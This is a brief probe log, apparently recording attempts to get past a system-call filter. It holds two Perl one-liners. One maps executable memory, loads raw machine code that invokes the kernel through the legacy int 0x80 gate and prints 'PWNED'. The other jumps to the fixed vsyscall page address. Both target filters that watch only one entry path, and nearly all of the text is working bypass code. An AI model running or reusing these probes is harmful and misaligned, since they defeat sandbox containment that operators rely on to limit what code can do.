# tries: call the kernel by its old fixed address, and by int 0x80
# from: filters that look at one way in only
tried int80
perl -e 'my $code = "\xb8\x14\x00\x00\x00\xcd\x80\xc3"; my $a = syscall(9, 0, 4096, 7, 0x22, -1, 0); if ($a > 0) { open(F, ">", "code"); print F $code; close F; open(F, "<", "code"); syscall(0, fileno(F), $a, 8); require DynaLoader; my $f = DynaLoader::dl_install_xsub("main::go", $a); go(); print "PWNED\n" }'
tried vsyscall-page
perl -e 'require DynaLoader; DynaLoader::dl_install_xsub("main::go", 0xffffffffff600400); go(); print "called\n"'
